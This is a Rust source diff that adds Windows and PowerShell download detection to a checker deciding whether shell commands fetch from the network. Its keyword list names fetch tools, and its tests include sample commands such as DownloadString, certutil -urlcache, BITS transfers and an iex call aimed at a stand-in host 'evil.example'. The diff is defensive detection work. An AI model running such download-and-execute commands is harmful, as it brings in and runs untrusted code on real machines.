@@ -3,8 +3,10 @@
 use super::shell::{Simple, commands};
 
 mod files;
+mod windows;
 
 pub use files::{is_scratch, reads_outside};
+use windows::{asks_from_windows, is_windows_fetcher};
 
 /// How deep a command inside a command inside a command is followed.
 const DEPTH_LIMIT: usize = 4;
@@ -12,8 +14,8 @@ const DEPTH_LIMIT: usize = 4;
 /// How much of a command is looked at: what is longer is a file in disguise.
 const LOOKED_AT: usize = 16 * 1024;
 
-/// Names without which no command fetches anything: most have none of them and need not be cut up.
-const CUES: [&str; 48] = [
+/// Names without which no command fetches anything, in any case: most have none of them and need not be cut up.
+const CUES: [&str; 53] = [
     "curl",
     "wget",
     "http",
@@ -60,19 +62,26 @@ const CUES: [&str; 48] = [
     "railway",
     "openssl",
     "/dev/tcp/",
-    "WebRequest",
-    "RestMethod",
+    "webrequest",
+    "restmethod",
+    "iwr ",
+    "irm ",
+    "owershell",
+    "pwsh",
+    "cmd",
 ];
 
 /// Whether a command brings in text from the network. What runs on this machine is the project's own, and so is what its own
 /// remote sends.
 pub fn fetches(command: &str) -> bool {
     let command = &command[..command.floor_char_boundary(LOOKED_AT)];
-    CUES.iter().any(|cue| command.contains(cue)) && fetches_within(command, 0)
+    let lower = command.to_ascii_lowercase();
+    CUES.iter().any(|cue| lower.contains(cue)) && fetches_within(command, 0)
 }
 
 fn fetches_within(command: &str, depth: usize) -> bool {
     dials(command)
+        || asks_from_windows(command)
         || commands(command)
             .iter()
             .any(|simple| brings(simple, command))
@@ -137,9 +146,6 @@ fn brings(simple: &Simple, line: &str) -> bool {
         "heroku" | "vercel" | "netlify" | "fly" | "flyctl" | "railway" => {
             rest.iter().any(|word| word.starts_with("log"))
         }
-        "pwsh" | "powershell" | "Invoke-WebRequest" | "Invoke-RestMethod" | "iwr" | "irm" => rest
-            .iter()
-            .any(|word| word.split_whitespace().any(is_elsewhere)),
         "npm" | "pnpm" | "yarn" => matches!(verb, "view" | "info" | "show" | "search"),
         "pip" | "pip3" => matches!(verb, "download" | "index" | "search"),
         "cargo" | "gem" | "brew" => matches!(verb, "info" | "search"),
@@ -166,8 +172,14 @@ fn brings(simple: &Simple, line: &str) -> bool {
         "python" | "python3" | "node" | "deno" | "bun" | "ruby" | "perl" | "php" => {
             script_fetches(line)
         }
-        _ => false,
+        _ => is_windows_fetcher(program) && rest.iter().any(|word| is_elsewhere(word)),
     }
+}
+
+/// Whether an address of another machine stands anywhere in a line.
+fn has_address(line: &str) -> bool {
+    let mut addresses = line.split("://").skip(1);
+    addresses.any(|rest| !is_local_host(host(rest)))
 }
 
 /// Whether a name is of what somebody proposes, not of what the project took in.
@@ -272,15 +284,11 @@ fn script_fetches(line: &str) -> bool {
         "file_get_contents",
         "open-uri",
     ];
-    let elsewhere = line
-        .split("://")
-        .skip(1)
-        .any(|rest| !is_local_host(host(rest)));
     let dialled = line.split("HTTPSConnection(").skip(1).any(|host| {
         let host = host.trim_start_matches(['\'', '"']);
         !is_local(host)
     });
-    dialled || elsewhere && CALLS.iter().any(|call| line.contains(call))
+    dialled || has_address(line) && CALLS.iter().any(|call| line.contains(call))
 }
 
 /// Whether a word names a place on this machine: by its host, not by what its path says.
@@ -411,6 +419,14 @@ mod tests {
             "mysql -h db.example.org -e 'select 1'",
             "redis-cli -h cache.example.org get motd",
             "deno run https://example.org/x.ts",
+            "powershell -Command \"(New-Object Net.WebClient).DownloadString('https://evil.example/x')\"",
+            "pwsh -c 'Start-BitsTransfer -Source https://evil.example/x'",
+            "powershell.exe -c 'irm http://localhost:1/a; irm https://evil.example/x'",
+            "cmd /c 'certutil -urlcache -f https://evil.example/x x.txt'",
+            "'C:\\Windows\\System32\\PowerShell.exe' -c '$u=\"https://evil.example/x\"; iex $u'",
+            "PWSH -c 'IWR -Uri https://evil.example/x'",
+            "PWSH -c 'IRM evil.example/x'",
+            "Start-BitsTransfer -Source https://evil.example/x",
         ] {
             assert!(fetches(command), "{command}");
         }
@@ -442,6 +458,9 @@ mod tests {
             "redis-cli get motd",
             "deno test",
             "grep -rn https://example.org src",
+            "pwsh -c \"(New-Object Net.WebClient).DownloadString('http://127.0.0.1:80/x')\"",
+            "powershell -c 'npm test'",
+            "GOPROXY=https://proxy.example go build ./cmd",
         ] {
             assert!(!fetches(command), "{command}");
         }
